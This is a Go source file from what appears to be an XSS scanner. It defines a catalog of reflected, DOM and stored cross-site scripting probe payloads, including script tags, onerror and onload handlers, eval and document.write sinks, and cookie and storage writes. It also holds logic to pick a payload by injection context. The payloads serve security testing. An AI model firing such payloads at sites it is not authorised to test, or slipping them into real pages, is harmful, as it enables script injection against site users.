// Package payload provides the XSS payload catalog, the encoding codec and
// the variant generator that expands a base payload into probe variants.
package payload

import (
	"strings"

	"github.com/0x6d61/xssprobe/internal/engine"
)

// TokenPlaceholder marks where the uniqueness token goes in a template.
const TokenPlaceholder = "{{token}}"

// VulnClass is the vulnerability class a payload targets.
type VulnClass string

const (
	ClassReflected VulnClass = "reflected"
	ClassDOM       VulnClass = "dom"
	ClassStored    VulnClass = "stored"
)

// Payload is an immutable catalog entry.
type Payload struct {
	ID          string
	VulnClass   VulnClass
	RawTemplate string
	Description string
}

// Materialize returns the template with the token substituted.
func (p Payload) Materialize(token string) string {
	return strings.ReplaceAll(p.RawTemplate, TokenPlaceholder, token)
}

// Catalog holds base payloads keyed by vulnerability class, in insertion order.
type Catalog struct {
	byClass map[VulnClass][]Payload
}

// NewCatalog builds a catalog from payloads.
func NewCatalog(payloads ...Payload) *Catalog {
	c := &Catalog{byClass: make(map[VulnClass][]Payload)}
	for _, p := range payloads {
		c.byClass[p.VulnClass] = append(c.byClass[p.VulnClass], p)
	}
	return c
}

// DefaultCatalog returns the built-in payload set.
func DefaultCatalog() *Catalog {
	return NewCatalog(
		Payload{"r-script", ClassReflected, `<script>alert('{{token}}')</script>`, "inline script block"},
		Payload{"r-img-onerror", ClassReflected, `<img src=x onerror=alert('{{token}}')>`, "broken image error handler"},
		Payload{"r-svg-onload", ClassReflected, `<svg onload=alert('{{token}}')>`, "svg load handler"},
		Payload{"r-breakout", ClassReflected, `'"><XSS{{token}}>`, "attribute breakout marker"},
		Payload{"r-event-attr", ClassReflected, `<div onmouseover=alert('{{token}}')>hover me</div>`, "mouse event handler"},
		Payload{"r-style", ClassReflected, `<div style="width:expression(alert('{{token}}'))">`, "legacy css expression"},

		Payload{"d-innerhtml", ClassDOM, `<script>document.body.innerHTML="<img src=x onerror=alert('{{token}}')>";</script>`, "innerHTML sink"},
		Payload{"d-docwrite", ClassDOM, `<script>document.write("<img src=x onerror=alert('{{token}}')>");</script>`, "document.write sink"},
		Payload{"d-eval", ClassDOM, `<script>eval("alert('{{token}}')");</script>`, "eval sink"},

		Payload{"s-localstorage", ClassStored, `<script>localStorage.setItem("xss", "{{token}}");</script>`, "localStorage write"},
		Payload{"s-sessionstorage", ClassStored, `<script>sessionStorage.setItem("xss", "{{token}}");</script>`, "sessionStorage write"},
		Payload{"s-cookie", ClassStored, `<script>document.cookie = "xss={{token}}";</script>`, "cookie write"},
	)
}

// ByClass returns the payloads of class in catalog order.
func (c *Catalog) ByClass(class VulnClass) []Payload {
	return c.byClass[class]
}

// selection lists, per context type, the template markers that make a
// payload suitable for that context.
var selection = []struct {
	ctx     engine.ContextType
	markers []string
}{
	{engine.ContextHTML, []string{"<script>", "onerror="}},
	{engine.ContextJavaScript, []string{"eval(", "document.write"}},
	{engine.ContextCSS, []string{"style=", "expression("}},
}

// Select picks the base payload of class for ctx. The first context type
// present in ctx decides which markers are searched for; without a match
// the class's first entry is returned. ok is false if the class is empty.
func (c *Catalog) Select(class VulnClass, ctx engine.Context) (Payload, bool) {
	payloads := c.byClass[class]
	if len(payloads) == 0 {
		return Payload{}, false
	}
	for _, rule := range selection {
		if !ctx.Has(rule.ctx) {
			continue
		}
		for _, p := range payloads {
			for _, m := range rule.markers {
				if strings.Contains(p.RawTemplate, m) {
					return p, true
				}
			}
		}
		break
	}
	return payloads[0], true
}
